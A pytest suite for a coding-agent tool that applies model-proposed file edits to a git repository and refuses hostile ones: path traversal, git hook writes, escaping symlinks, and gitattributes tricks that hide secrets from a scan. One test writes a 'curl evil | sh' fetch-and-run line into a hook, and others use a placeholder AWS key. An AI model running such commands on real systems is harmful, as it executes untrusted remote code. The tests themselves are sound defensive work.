"""Applying a coder's edits to a real git repository: all or nothing, and a diff that applies."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from pydantic import ValidationError

from codeyard.agents.edits import EditError, apply_edits
from codeyard.agents.outputs import MAX_EDITS, CodeOutput, FileEdit, ReplaceText, WriteFile
from codeyard.agents.policy import load_policy
from codeyard.agents.working_copy import read_files
from tests.agents.adversarial_corpus import AWS_KEY_ID
from tests.agents.sample_repo import files_of, git


def replace(path: str, search: str, new: str) -> ReplaceText:
    return ReplaceText(kind="replace", path=path, search=search, replace=new)


def write(path: str, content: str) -> WriteFile:
    return WriteFile(kind="write", path=path, content=content)


def assert_untouched(repo: Path, before: dict[str, bytes]) -> None:
    assert files_of(repo) == before
    assert git(repo, "status", "--porcelain") == ""


def test_edits_from_a_code_output_apply_and_their_diff_applies_to_the_original(
    sample_repo: Path, tmp_path: Path
) -> None:
    original = tmp_path / "original"
    shutil.copytree(sample_repo, original, symlinks=True)
    output = CodeOutput.model_validate(
        {
            "summary": "Add mul, and export it.",
            "edits": [
                {
                    "kind": "replace",
                    "path": "calc/ops.py",
                    "search": "def sub(a: int, b: int) -> int:\n    return a - b\n",
                    "replace": "def sub(a: int, b: int) -> int:\n    return a - b\n\n\n"
                    "def mul(a: int, b: int) -> int:\n    return a * b\n",
                },
                {
                    "kind": "replace",
                    "path": "calc/__init__.py",
                    "search": "add, sub",
                    "replace": "add, mul, sub",
                },
                # A second edit of the same file sees the first one's result.
                {
                    "kind": "replace",
                    "path": "calc/__init__.py",
                    "search": "['add', 'sub']",
                    "replace": "['add', 'mul', 'sub']",
                },
                {
                    "kind": "write",
                    "path": "tests/unit/test_mul.py",
                    "content": "from calc import mul\n\n\ndef test_mul() -> None:\n"
                    "    assert mul(3, 4) == 12",  # no newline at the end, on purpose
                },
            ],
        }
    )

    applied = apply_edits(sample_repo, output.edits)

    assert applied.modified == ("calc/ops.py", "calc/__init__.py")
    assert applied.created == ("tests/unit/test_mul.py",)
    assert "def mul(a: int, b: int) -> int:" in (sample_repo / "calc/ops.py").read_text()
    assert (
        (sample_repo / "calc/__init__.py")
        .read_text()
        .startswith("from calc.ops import add, mul, sub\n")
    )
    assert "+++ b/tests/unit/test_mul.py" in applied.diff
    assert "\\ No newline at end of file" in applied.diff
    # The repository's own index is untouched: the new file is untracked, nothing is staged.
    status = git(sample_repo, "status", "--porcelain", "--untracked-files=all")
    assert status.splitlines() == [
        " M calc/__init__.py",
        " M calc/ops.py",
        "?? tests/unit/test_mul.py",
    ]
    # The diff turns the original tree into exactly the edited one.
    git(original, "apply", "--check", stdin=applied.diff)
    git(original, "apply", stdin=applied.diff)
    assert files_of(original) == files_of(sample_repo)


def test_the_diff_is_only_this_change_even_with_other_work_in_the_tree(
    sample_repo: Path, tmp_path: Path
) -> None:
    # Uncommitted and staged changes made before the edits are not part of their diff.
    (sample_repo / "README.md").write_text("# calc\n\nChanged by hand.\n")
    ops = sample_repo / "calc/ops.py"
    ops.write_text(ops.read_text() + "\n\nPI = 3\n")
    git(sample_repo, "add", "calc/ops.py")
    original = tmp_path / "original"
    shutil.copytree(sample_repo, original, symlinks=True)

    applied = apply_edits(sample_repo, [replace("calc/ops.py", "PI = 3", "PI = 3.14159")])

    assert applied.diff.count("diff --git") == 1
    assert "-PI = 3\n+PI = 3.14159\n" in applied.diff
    git(original, "apply", stdin=applied.diff)
    assert files_of(original) == files_of(sample_repo)


def test_edits_that_change_nothing_give_an_empty_diff(sample_repo: Path) -> None:
    content = (sample_repo / "calc/ops.py").read_text()

    applied = apply_edits(sample_repo, [write("calc/ops.py", content)])

    assert (applied.diff, applied.created, applied.modified) == ("", (), ())
    assert git(sample_repo, "status", "--porcelain") == ""


def test_a_search_block_found_twice_is_refused_and_nothing_is_written(
    sample_repo: Path,
) -> None:
    before = files_of(sample_repo)
    edits: list[FileEdit] = [
        write("calc/mul.py", "def mul(a, b):\n    return a * b\n"),  # valid on its own
        replace("calc/ops.py", "(a: int, b: int) -> int:", "(a: float, b: float) -> float:"),
    ]

    with pytest.raises(EditError) as caught:
        apply_edits(sample_repo, edits)

    assert str(caught.value) == (
        "edit 2 (replace calc/ops.py): search text found 2 times in calc/ops.py; "
        "include more surrounding lines so it matches exactly once"
    )
    assert (caught.value.index, caught.value.path) == (1, "calc/ops.py")
    assert_untouched(sample_repo, before)


def test_overlapping_matches_count_as_more_than_one(sample_repo: Path) -> None:
    (sample_repo / "notes.txt").write_text("aaa\n")

    with pytest.raises(EditError, match=r"found 2 times in notes\.txt"):
        apply_edits(sample_repo, [replace("notes.txt", "aa", "b")])


def test_a_search_block_not_found_is_refused(sample_repo: Path) -> None:
    before = files_of(sample_repo)

    with pytest.raises(EditError, match=r"search text not found in calc/ops\.py"):
        # A tab where the file has spaces: exact means exact.
        apply_edits(sample_repo, [replace("calc/ops.py", "\treturn a + b", "\treturn b + a")])

    assert_untouched(sample_repo, before)


def test_a_search_block_for_a_missing_file_says_how_to_create_it(sample_repo: Path) -> None:
    with pytest.raises(
        EditError, match=r"calc/div\.py does not exist; create it with a write edit"
    ):
        apply_edits(sample_repo, [replace("calc/div.py", "x", "y")])


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("../outside.py", "the path contains '..'"),
        ("calc/../../outside.py", "the path contains '..'"),
        ("/tmp/outside.py", "the path is absolute"),
        (".git/hooks/pre-commit", "the path is inside .git"),
        (".GIT/hooks/pre-commit", "the path is inside .git"),
        ("calc/.git/config", "the path is inside .git"),
        ("./calc/ops.py", "not in normal form; write 'calc/ops.py'"),
        ("calc//ops.py", "not in normal form; write 'calc/ops.py'"),
        ("calc\\ops.py", "contains '\\'"),
    ],
)
def test_hostile_paths_are_refused_before_anything_is_written(
    sample_repo: Path, path: str, reason: str
) -> None:
    before = files_of(sample_repo)
    (sample_repo / ".git/hooks").mkdir(
        exist_ok=True
    )  # (git made none: codeyard's takes no template)
    hooks = sorted((sample_repo / ".git/hooks").iterdir())

    with pytest.raises(EditError) as caught:
        apply_edits(sample_repo, [write("calc/ok.py", "ok = 1\n"), write(path, "#!/bin/sh\n")])

    assert reason in str(caught.value)
    assert caught.value.index == 1
    assert_untouched(sample_repo, before)
    assert sorted((sample_repo / ".git/hooks").iterdir()) == hooks
    assert not (sample_repo.parent / "outside.py").exists()


def test_a_symlink_out_of_the_repository_is_not_followed(sample_repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (sample_repo / "vendor").symlink_to(outside)

    with pytest.raises(EditError, match="'vendor' is a symlink"):
        apply_edits(sample_repo, [write("vendor/evil.py", "import os\n")])

    assert list(outside.iterdir()) == []


def test_a_symlink_into_git_hooks_is_not_followed(sample_repo: Path) -> None:
    (sample_repo / "hooks").symlink_to(sample_repo / ".git/hooks")

    with pytest.raises(EditError, match="'hooks' is a symlink"):
        apply_edits(sample_repo, [write("hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")])

    assert not (sample_repo / ".git/hooks/pre-commit").exists()


def test_a_nested_repository_is_not_edited(sample_repo: Path) -> None:
    # git would leave files of another repository out of the diff, or refuse them.
    vendored = sample_repo / "vendored"
    vendored.mkdir()
    git(vendored, "init", "--quiet")
    (vendored / "lib.py").write_text("x = 1\n")

    with pytest.raises(EditError, match="'vendored' is a separate git repository"):
        apply_edits(sample_repo, [replace("vendored/lib.py", "x = 1", "x = 2")])
    with pytest.raises(EditError, match="'vendored' is a separate git repository"):
        apply_edits(sample_repo, [write("vendored/new.py", "")])

    assert (vendored / "lib.py").read_text() == "x = 1\n"
    assert not (vendored / "new.py").exists()


def test_a_submodule_not_checked_out_is_not_written_into(sample_repo: Path) -> None:
    """Its directory is empty in a checkout: a file written there made a diff that no
    repository can apply ("appears as both a file and as a directory")."""
    head = git(sample_repo, "rev-parse", "HEAD").strip()
    git(sample_repo, "update-index", "--add", "--cacheinfo", f"160000,{head},vendor/lib")
    git(sample_repo, "commit", "-q", "-m", "vendor lib as a submodule")
    (sample_repo / "vendor" / "lib").mkdir(parents=True)  # as a checkout leaves it

    with pytest.raises(EditError, match="vendor/lib is a submodule"):
        apply_edits(sample_repo, [write("vendor/lib/new.py", "x = 1\n")])
    assert list((sample_repo / "vendor" / "lib").iterdir()) == []
    (sample_repo / "vendor" / "empty").mkdir()  # an empty directory of no submodule is not one
    assert apply_edits(sample_repo, [write("vendor/empty/new.py", "x = 1\n")]).created


CRLF = "def f():\r\n    return 1\r\n\r\n\r\ndef g():\r\n    return 2\r\n"


def committed_crlf_file(repo: Path, attributes: str = "") -> None:
    (repo / "win.py").write_bytes(CRLF.encode())
    git(repo, "add", "win.py")
    git(repo, "commit", "-q", "-m", "a file from Windows")
    if attributes:  # set after the file was committed, as a project adopting them does
        (repo / ".gitattributes").write_text(attributes)
        git(repo, "add", ".gitattributes")
        git(repo, "commit", "-q", "-m", "attributes")


def applies_to(original: Path, diff: str, tmp_path: Path) -> bytes:
    patch = tmp_path / "change.diff"
    patch.write_bytes(diff.encode())  # as bytes: its lines end as the file's do
    git(original, "status", "--porcelain")  # the copy's index learns its files' new stat data
    git(original, "apply", "--3way", "--index", str(patch))
    return (original / "win.py").read_bytes()


def test_a_crlf_file_is_edited_as_the_model_was_shown_it_and_keeps_its_line_ends(
    sample_repo: Path, tmp_path: Path
) -> None:
    """The model is shown the file with LF endings (`read_files`): its search text was never
    found, and a whole-file write changed every line."""
    committed_crlf_file(sample_repo)
    original = tmp_path / "original"
    shutil.copytree(sample_repo, original, symlinks=True)
    shown = read_files(sample_repo, ["win.py"])["win.py"]
    assert shown == CRLF.replace("\r\n", "\n")
    edited = CRLF.replace("return 2", "return 3").encode()

    applied = apply_edits(
        sample_repo, [replace("win.py", "def g():\n    return 2\n", "def g():\n    return 3\n")]
    )
    assert (sample_repo / "win.py").read_bytes() == edited
    assert "-    return 2\r\n+    return 3\r\n" in applied.diff
    assert applies_to(original, applied.diff, tmp_path) == edited
    git(sample_repo, "checkout", "--", "win.py")

    rewritten = apply_edits(sample_repo, [write("win.py", shown.replace("return 2", "return 3"))])
    assert (sample_repo / "win.py").read_bytes() == edited
    assert rewritten.diff == applied.diff  # one line changed, not all of them


def test_a_crlf_file_committed_before_text_auto_gets_a_diff_that_applies(
    sample_repo: Path, tmp_path: Path
) -> None:
    """Added anew to the scratch index, the file was stored through `* text=auto` with LF:
    the diff's context and base matched nothing, and the tester and the merge refused it."""
    committed_crlf_file(sample_repo, "* text=auto\n")
    original = tmp_path / "original"
    shutil.copytree(sample_repo, original, symlinks=True)

    applied = apply_edits(sample_repo, [replace("win.py", "return 2", "return 3")])
    assert (
        applies_to(original, applied.diff, tmp_path)
        == CRLF.replace("return 2", "return 3").encode()
    )


def test_content_over_the_size_limit_is_refused(sample_repo: Path) -> None:
    with pytest.raises(EditError) as caught:
        apply_edits(sample_repo, [write("big.txt", "x" * 1001)], max_file_bytes=1000)

    assert str(caught.value) == (
        "edit 1 (write big.txt): big.txt would be 1001 bytes, over the limit of 1000 per file"
    )
    assert not (sample_repo / "big.txt").exists()


def test_a_replacement_growing_a_file_over_the_limit_is_refused(sample_repo: Path) -> None:
    with pytest.raises(EditError, match=r"calc/ops\.py would be \d+ bytes, over the limit"):
        apply_edits(
            sample_repo, [replace("calc/ops.py", "a - b", "a - b" + " " * 500)], max_file_bytes=500
        )


def test_binary_content_is_refused(sample_repo: Path) -> None:
    with pytest.raises(EditError, match="NUL character"):
        apply_edits(sample_repo, [write("data.bin", "abc\0def")])


def test_files_and_directories_cannot_take_each_others_place(sample_repo: Path) -> None:
    with pytest.raises(EditError, match=r"calc/ops\.py is a file, so calc/ops\.py/x\.py cannot be"):
        apply_edits(sample_repo, [write("calc/ops.py/x.py", "")])
    with pytest.raises(EditError, match=r"edit 1 .*: calc is a directory"):
        apply_edits(sample_repo, [write("calc", "")])
    with pytest.raises(EditError, match=r"edit 2 .*: new is a file, so new/x\.py cannot be"):
        apply_edits(sample_repo, [write("new", ""), write("new/x.py", "")])
    with pytest.raises(EditError, match=r"edit 2 .*: new is a directory holding files"):
        apply_edits(sample_repo, [write("new/x.py", ""), write("new", "")])
    with pytest.raises(EditError, match=r"edit 2 .*: new is a directory holding files"):
        apply_edits(sample_repo, [write("new/deeper/x.py", ""), write("new", "")])
    assert not (sample_repo / "new").exists()


def test_a_batch_of_edits_is_capped(sample_repo: Path) -> None:
    # Each edit is checked against the ones before it: an unbounded batch from a model would
    # hold the worker for as long as the model liked.
    edits = [write(f"new/f{n}.py", "") for n in range(MAX_EDITS + 1)]
    with pytest.raises(ValidationError, match="at most 200 items"):
        CodeOutput(summary="many", edits=edits)
    with pytest.raises(EditError, match="201 edits; at most 200"):
        apply_edits(sample_repo, edits)
    assert not (sample_repo / "new").exists()

    applied = apply_edits(sample_repo, edits[:MAX_EDITS])
    assert len(applied.created) == MAX_EDITS


def test_new_files_in_new_directories_and_ignored_paths_are_in_the_diff(
    sample_repo: Path, tmp_path: Path
) -> None:
    (sample_repo / ".gitignore").write_text("generated/\n")
    git(sample_repo, "add", ".gitignore")
    git(sample_repo, "commit", "--quiet", "--message", "ignore generated/")
    original = tmp_path / "original"
    shutil.copytree(sample_repo, original, symlinks=True)

    applied = apply_edits(
        sample_repo,
        [write("generated/deep/table.py", "TABLE = {}\n"), write("docs/[draft] *.md", "# x\n")],
    )

    assert applied.created == ("generated/deep/table.py", "docs/[draft] *.md")
    git(original, "apply", stdin=applied.diff)
    assert files_of(original) == files_of(sample_repo)


def test_an_executable_file_keeps_its_mode(sample_repo: Path, tmp_path: Path) -> None:
    script = sample_repo / "run.sh"
    script.write_text("#!/bin/sh\necho one\n")
    script.chmod(0o755)
    git(sample_repo, "add", "run.sh")
    git(sample_repo, "commit", "--quiet", "--message", "script")

    applied = apply_edits(sample_repo, [replace("run.sh", "echo one", "echo two")])

    assert os.access(script, os.X_OK)
    assert "old mode" not in applied.diff
    assert "+echo two" in applied.diff


def test_files_written_are_restored_when_refused_afterwards(sample_repo: Path) -> None:
    # The attributes git gives a file are known once every edit is written (one may be to a
    # .gitattributes): a refusal then must put the files back as they were.
    (sample_repo / ".gitattributes").write_text("*.txt filter=broken\n")
    before = files_of(sample_repo)

    with pytest.raises(EditError, match=r"notes/new/todo.txt 'filter=broken'"):
        apply_edits(
            sample_repo,
            [replace("calc/ops.py", "a - b", "b - a"), write("notes/new/todo.txt", "mul\n")],
        )

    assert files_of(sample_repo) == before
    assert not (sample_repo / "notes").exists()


def test_the_root_must_be_the_top_of_a_work_tree(sample_repo: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="is not the top level of a git work tree"):
        apply_edits(sample_repo / "calc", [write("x.py", "")])
    plain = tmp_path / "plain"
    plain.mkdir()
    with pytest.raises(ValueError, match="is not the top level of a git work tree"):
        apply_edits(plain, [write("x.py", "")])
    assert not (sample_repo / "calc/x.py").exists()
    assert not (plain / "x.py").exists()


# --- the diff the safety gate reads ------------------------------------------------------------


def test_files_the_repository_calls_binary_are_still_diffed_as_text(
    sample_repo: Path, tmp_path: Path
) -> None:
    # Without --text git would answer with a `GIT binary patch`: no line for the secret scan.
    (sample_repo / ".gitattributes").write_text("* binary\n")
    git(sample_repo, "add", ".gitattributes")
    git(sample_repo, "commit", "--quiet", "--message", "everything is binary")
    original = tmp_path / "original"
    shutil.copytree(sample_repo, original, symlinks=True)

    applied = apply_edits(
        sample_repo,
        [replace("calc/ops.py", "a - b", "b - a"), write("conf.py", f"KEY = '{AWS_KEY_ID}'\n")],
    )

    assert "GIT binary patch" not in applied.diff
    assert "Binary files" not in applied.diff
    assert "\n-    return a - b\n+    return b - a\n" in applied.diff
    assert f"\n+KEY = '{AWS_KEY_ID}'\n" in applied.diff
    assert load_policy(None).evaluate_action("merge", applied.diff).rule == "secret-aws-access-key"
    git(original, "apply", stdin=applied.diff)
    assert files_of(original) == files_of(sample_repo)


def test_non_ascii_names_are_in_the_diff_as_they_are(sample_repo: Path) -> None:
    applied = apply_edits(sample_repo, [write(".github/workflows/ci\u00e9.yml", "on: push\n")])

    assert "+++ b/.github/workflows/ci\u00e9.yml\n" in applied.diff
    verdict = load_policy(None).evaluate_action("merge", applied.diff)
    assert (verdict.decision, verdict.rule) == ("needs_approval", "write-ci-config")


@pytest.mark.parametrize(
    ("path", "content", "setting"),
    [
        (".gitattributes", "conf.py binary\n", "'binary'"),
        (".gitattributes", "*.yml -diff\n", "'-diff'"),
        (".gitattributes", "*.py text\n*.yml -text\n", "'-text'"),
        (".gitattributes", "* diff=hexdump\n", "'diff=hexdump'"),
        (".gitattributes", "* filter=lfs\n", "'filter=lfs'"),
        (".gitattributes", "* merge=ours\n", "'merge=ours'"),
        (".gitattributes", "* working-tree-encoding=UTF-16\n", "'working-tree-encoding=UTF-16'"),
        (".gitattributes", "[attr]opaque binary\n*.yml opaque\n", "'binary'"),  # a macro
        (".gitattributes", '"name with spaces.py" binary\n', "'binary'"),
        (".gitattributes", "\f# git reads this as a pattern, not a comment -diff\n", "'-diff'"),
        ("docs/.gitattributes", "*.md binary\n", "'binary'"),
        (".GitAttributes", "* binary\n", "'binary'"),  # one file on a case-insensitive disk
    ],
)
def test_gitattributes_that_would_hide_contents_from_the_diff_are_refused(
    sample_repo: Path, path: str, content: str, setting: str
) -> None:
    before = files_of(sample_repo)

    with pytest.raises(EditError) as caught:
        apply_edits(sample_repo, [write(path, content), write("conf.py", f"K = '{AWS_KEY_ID}'\n")])

    assert caught.value.index == 0
    assert f"{path} line " in str(caught.value)
    assert f"sets {setting}, which changes how git shows or stores file contents" in str(
        caught.value
    )
    assert_untouched(sample_repo, before)


def test_gitattributes_that_leave_contents_as_text_can_be_written(sample_repo: Path) -> None:
    # `diff` set (not `-diff`) makes git treat a file as text; `-merge` only stops merging it.
    content = "# line endings\n* text=auto\n*.sh text eol=lf\n*.py diff\n*.lock -merge\n"
    applied = apply_edits(sample_repo, [write(".gitattributes", content)])

    assert applied.created == (".gitattributes",)


SECRET = f"K = '{AWS_KEY_ID}'\n"


@pytest.mark.parametrize(
    ("edits", "refused"),
    [
        ([write("keys.dat", SECRET)], "keys.dat"),
        (
            [write("docs/.gitattributes", "*.txt large\n"), write("docs/notes.txt", SECRET)],
            "docs/notes.txt",
        ),
        ([write("app.cfg", SECRET)], "app.cfg"),
    ],
    ids=["by the repository's macro", "by an edit using that macro", "by .git/info/attributes"],
)
def test_a_file_git_would_store_through_a_filter_is_refused(
    sample_repo: Path, edits: list[FileEdit], refused: str
) -> None:
    """What the edits say is not all: with git-lfs installed on the machine, a file its filter
    takes is committed as a pointer, and its content (a secret, say) never reaches the gate."""
    git(sample_repo, "config", "filter.lfs.clean", "sed s/./x/g")  # as `git lfs install` would
    (sample_repo / ".gitattributes").write_text("[attr]large filter=lfs -text\n*.dat large\n")
    git(sample_repo, "add", ".gitattributes")
    git(sample_repo, "commit", "--quiet", "--message", "large files")
    (sample_repo / ".git/info").mkdir(exist_ok=True)
    (sample_repo / ".git/info/attributes").write_text("*.cfg filter=lfs\n")
    before = files_of(sample_repo)

    with pytest.raises(EditError) as caught:
        apply_edits(sample_repo, edits)

    assert str(caught.value).startswith(f"edit {len(edits)} (write {refused}): git's attributes")
    assert "'filter=lfs', so git would not store the text written" in str(caught.value)
    assert_untouched(sample_repo, before)


def test_a_git_lfs_configuration_is_not_written(sample_repo: Path) -> None:
    before = files_of(sample_repo)
    with pytest.raises(EditError, match=r"\.lfsconfig may not be written: git-lfs takes its"):
        apply_edits(sample_repo, [write(".lfsconfig", "[lfs]\nurl = http://127.0.0.1:9/\n")])
    assert_untouched(sample_repo, before)


def test_a_replacement_that_makes_gitattributes_hide_contents_is_refused(
    sample_repo: Path,
) -> None:
    (sample_repo / ".gitattributes").write_text("*.py text\n")

    with pytest.raises(EditError, match=r"\.gitattributes line 1 sets '-diff'"):
        apply_edits(sample_repo, [replace(".gitattributes", "text", "-diff")])


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("a" * 300 + ".py", "is 303 bytes long; a file or directory name can be at most 255"),
        ("x/" * 2100 + "y.py", "the path is 4204 bytes long; here it can be at most"),
    ],
    ids=["a 303-byte name", "a 4204-byte path"],
)
def test_a_path_too_long_for_the_file_system_is_an_edit_error(
    sample_repo: Path, path: str, reason: str
) -> None:
    # Not an OSError from deep in the file system: the coder sends the reason to the model.
    with pytest.raises(EditError) as caught:
        apply_edits(sample_repo, [write("calc/ok.py", "ok = 1\n"), write(path, "x = 1\n")])

    assert caught.value.index == 1
    assert reason in str(caught.value)
    assert len(str(caught.value)) < 500  # the path itself is shortened in the message


def test_a_git_repository_named_by_the_environment_is_not_the_one_edited(
    sample_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`codeyard` started from a git hook, or with GIT_DIR exported, has git pointed elsewhere."""
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(sample_repo, elsewhere, symlinks=True)
    before = files_of(elsewhere)
    monkeypatch.setenv("GIT_DIR", str(elsewhere / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(elsewhere))
    monkeypatch.setenv("GIT_INDEX_FILE", str(elsewhere / ".git" / "index"))
    applied = apply_edits(sample_repo, [write("notes.txt", "a note\n")])
    assert applied.created == ("notes.txt",)
    assert "+a note" in applied.diff
    assert (sample_repo / "notes.txt").read_text() == "a note\n"
    monkeypatch.delenv("GIT_DIR")
    monkeypatch.delenv("GIT_WORK_TREE")
    monkeypatch.delenv("GIT_INDEX_FILE")
    assert_untouched(elsewhere, before)
